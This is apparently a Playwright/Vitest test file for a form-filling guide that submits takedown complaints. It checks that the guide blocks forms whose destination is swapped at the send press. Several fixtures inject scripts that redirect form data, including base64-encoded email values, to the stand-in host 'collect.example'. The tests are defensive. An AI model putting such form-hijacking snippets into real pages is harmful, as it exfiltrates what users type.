import type { Page } from '@playwright/test';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { FormState } from '../../../utils/takedown/fill/form-guide';
import { planTakedown } from '../../../utils/takedown/plan/plan';
import { type FormPages, launchForms, press, startGuide } from '../../harness/fill/form-pages';
import { representatives } from '../../harness/whole';
import { planInput, route } from '../../unit/takedown/match/match-samples';

/** The press on the button to send was the person's own, so a form that was exchanged just before it went out to anybody. */
let forms: FormPages;
beforeAll(async () => {
  forms = await launchForms(new URL('../../unit/takedown/fill/fill-entry.ts', import.meta.url).pathname);
});
afterAll(() => forms.close());

const session = planTakedown(planInput({ route: route('gmaps-legal'), claim: 'defamation' }));
const { origin } = new URL(session.route.url);
const stateOf = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { guideState(): FormState }).guideState());

const fields = `<p><label>氏名 <input id="a" name="a"></label></p><p><label>メールアドレス <input id="b" name="b"></label></p>`;

interface Filled {
  page: Page;
  /** Presses the button to send: a press on an element waits for a step that was held back. A person's press lasts for some time. */
  send(delay?: number): Promise<void>;
  /** Addresses that were asked for since. */
  sent(): string[];
}

/** A form that was filled without a word, and what is asked for after that. */
async function filled(html: string, act = ''): Promise<Filled> {
  const asked: string[] = [];
  const page = await forms.open(session.route.url, (url) => {
    asked.push(url);
    return url === session.route.url
      ? `<!doctype html><h1>権利侵害の申出</h1>${html}<script>${act}</script>`
      : '<p>…</p>';
  });
  await startGuide(page, session);
  await press(page, 'fill');
  expect((await stateOf(page)).stopped).toBeUndefined();
  expect(await page.inputValue('#b')).not.toBe('');
  const { x = 0, y = 0 } = (await page.locator('#go').boundingBox()) ?? {};
  return {
    page,
    send: (delay = 100) => page.mouse.click(x + 5, y + 5, { delay }),
    sent: () => asked.filter((url) => url !== session.route.url),
  };
}
/** A busy browser never closes a page that is on its way to another: it has to be there. */
async function leave(page: Page, isStill = false): Promise<void> {
  if (!isStill) await page.waitForURL((url) => url.href !== session.route.url);
  await page.close();
}
const form = (buttons: string) => `<form id="f" method="post" action="/sent">${fields}${buttons}</form>`;
const go = '<button id="go">送信</button>';
const other = (method: string, action: string) =>
  `<form id="g" method="${method}" action="${action}"><input type="hidden" name="d" value="1"></form>`;
const at = (event: string, act: string, of = 'go') =>
  `${of}.addEventListener('${event}',(event)=>{${act}},{once:true})`;

it.each(
  representatives(
    [
      ['its action at the press', form(go), at('pointerdown', "f.action='https://collect.example/'")],
      [
        'the address of its button at the press',
        form(go),
        at('pointerdown', "go.formAction='https://collect.example/'"),
      ],
      ['its action as it is sent', form(go), at('submit', "f.action='https://collect.example/'", 'f')],
      [
        'its base at the press',
        form(go).replace('"/sent"', '"sent"'),
        at('pointerdown', "document.head.innerHTML='<base href=https://collect.example/>'"),
      ],
      [
        'itself for a link with what was written',
        form('<a id="go" href="#">送信</a>'),
        at('pointerdown', "go.href='https://collect.example/?n='+encodeURIComponent(a.value)"),
      ],
      [
        'itself for another of its own host',
        `${form(go)}<form id="g" method="post" action="/comments"></form>`,
        at('pointerdown', "[a,b,go].forEach((each)=>each.setAttribute('form','g'))"),
      ],
      ['its method at the press', form(go), at('pointerdown', "f.method='get'")],
      [
        'its button for one of another form with a cipher',
        `${form(go)}${other('get', 'https://collect.example/')}`,
        at('pointerdown', `g.d.value=btoa(b.value);go.setAttribute('form','g')`),
      ],
      [
        'itself for a script’s form with a cipher',
        form(go),
        at(
          'submit',
          `event.preventDefault();document.body.insertAdjacentHTML('beforeend','${other('post', 'https://collect.example/')}');g.d.value=btoa(b.value);g.submit()`,
          'f',
        ),
      ],
    ],
    9,
  ),
)('a form that exchanges %s is held back once, and that is said', async (what, html, act) => {
  const { page, send, sent } = await filled(html, act);
  await send();
  await page.waitForTimeout(400);
  expect(sent()).toEqual([]);
  const { stopped } = await stateOf(page);
  expect(stopped?.why).toBe('exchanged');
  if (!/own host|method/.test(what)) expect(stopped?.to).toBe('collect.example');
  // Who has read that and presses again is not kept from it
  await send();
  await expect.poll(() => sent().length).toBe(1);
  await leave(page);
});

it.each(
  representatives(
    [
      ['a form that stays what it was', form(go), '', `${origin}/sent`],
      ['a form of two ways on its own host', form(go), at('click', "f.action='/confirm'"), `${origin}/confirm`],
      [
        'a form that its own script sends',
        `<form id="f">${fields}${go}</form>`,
        "f.onsubmit=(event)=>{event.preventDefault();fetch('/api')}",
        `${origin}/api`,
      ],
      [
        'a form whose boxes are read as they are left',
        form(go),
        "b.addEventListener('blur',()=>new FormData(f))",
        `${origin}/sent`,
      ],
      [
        'a form whose boxes are read as they are left, and that its own script sends',
        form(go.replace('<button', '<button type="button"')),
        "b.addEventListener('blur',()=>new FormData(f));go.onclick=()=>f.submit()",
        `${origin}/sent`,
      ],
      [
        'a link to another site beside a form whose boxes are read as they are left',
        `${form('')}<a id="go" href="https://example.org/privacy">方針</a>`,
        "b.addEventListener('blur',()=>new FormData(f))",
        'https://example.org/privacy',
      ],
      [
        'a link to another site',
        `${form('')}<a id="go" href="https://example.org/privacy">方針</a>`,
        '',
        'https://example.org/privacy',
      ],
    ],
    7,
  ),
)('%s goes at the first press', async (_, html, act, address) => {
  const { page, send, sent } = await filled(html, act);
  await page.focus('#b');
  await send();
  await expect.poll(sent).toEqual([address]);
  await leave(page, address.endsWith('/api'));
});

it('tells before the press that a form puts what is written into an address', { tags: 'long' }, async () => {
  const told = async (attributes: string) => {
    const page = await forms.start(session, `<h1>権利侵害の申出</h1><form ${attributes}>${fields}</form>`);
    const { isByAddress } = await stateOf(page);
    await page.close();
    return isByAddress;
  };
  expect(await told('method="get" action="/send"')).toBe(true);
  expect(await told('action="/send"')).toBe(true);
  expect(await told('method="post" action="/send"')).toBeUndefined();
  expect(await told('action="#"'), 'sent by its script').toBeUndefined();
  expect(await told(''), 'sent by its script').toBeUndefined();
});

const evil = 'https://collect.example/';
it.each(
  representatives<[at: string, html: string, act: string, where: string, delay?: number]>(
    [
      ['a press that has begun', form(go), at('pointerdown', 'f.requestSubmit()'), ''],
      [
        'a press that has begun, by another form',
        `${form(go)}${other('post', evil)}`,
        at('mousedown', 'g.submit()'),
        '',
      ],
      [
        'a press that is over before it leaves',
        `${form(go)}${other('post', evil)}`,
        at('mousedown', 'g.submit()'),
        '',
        0,
      ],
      [
        'a press that is over before it leaves, in an address',
        `${form(go)}${other('get', evil)}`,
        at('mousedown', 'g.submit()'),
        '',
        0,
      ],
      ['a box that gets the focus', form(go), at('focus', 'f.requestSubmit()', 'b'), '#b'],
      ['a press in a box', form(go), at('click', 'f.submit()', 'b'), '#b'],
      ['a key that is typed', form(go), at('keydown', 'f.requestSubmit()', 'b'), 'b'],
    ],
    7,
  ),
)(
  'a form that is sent at %s is held back once, and that is said',
  { tags: 'long' },
  async (_, html, act, where, delay?) => {
    const { page, send, sent } = await filled(html);
    // The guide's own hands set the focus, too
    await page.evaluate(act);
    if (where === '') await send(delay);
    else if (where.startsWith('#')) await page.click(where, { noWaitAfter: true });
    else await page.locator('#b').press('End');
    await page.waitForTimeout(400);
    expect(sent()).toEqual([]);
    expect((await stateOf(page)).stopped?.why).toBe('submitted');
    await send();
    await expect.poll(() => sent().length).toBe(1);
    await leave(page);
  },
);

it.each(
  representatives(
    [
      ['Enter in a box', form(go), '', 'Enter'],
      ['a blank on its button', form(go), '', 'Space'],
      [
        'an answer that leads on',
        form(`<select id="s" name="s"><option>1<option>2</select>${go}`),
        at('change', 'f.submit()', 's'),
        '',
      ],
    ],
    3,
  ),
)('goes at once by %s', { tags: 'long' }, async (_, html, act, key) => {
  const { page, sent } = await filled(html, act);
  if (key === 'Enter') await page.locator('#b').press(key, { noWaitAfter: true });
  else if (key) await page.locator('#go').press(key, { noWaitAfter: true });
  else {
    await page.focus('#s');
    await page.keyboard.press('ArrowDown');
  }
  await expect.poll(sent).toEqual([`${origin}/sent`]);
  await leave(page);
});

it('tells of a confirmation that sends to another host, and of no other form', { tags: 'long' }, async () => {
  const told = async (html: string) => {
    const page = await forms.start(session, html);
    const { confirmsElsewhere } = await stateOf(page);
    await page.close();
    return confirmsElsewhere;
  };
  const held = '<p>佐伯 みのり</p><input type="hidden" name="n" value="佐伯 みのり"><button>送信</button>';
  expect(await told(`<form method="post" action="${evil}">${held}</form>`)).toBe('collect.example');
  expect(await told(`<form method="post" action="/done">${held}</form>`)).toBeUndefined();
  expect(await told(`<form method="post" action="${evil}">${held}<input name="q"></form>`), 'asks').toBeUndefined();
  expect(
    await told(`<form action="${evil}"><input type="hidden" name="l" value="ja"><button>日本語</button></form>`),
  ).toBeUndefined();
});
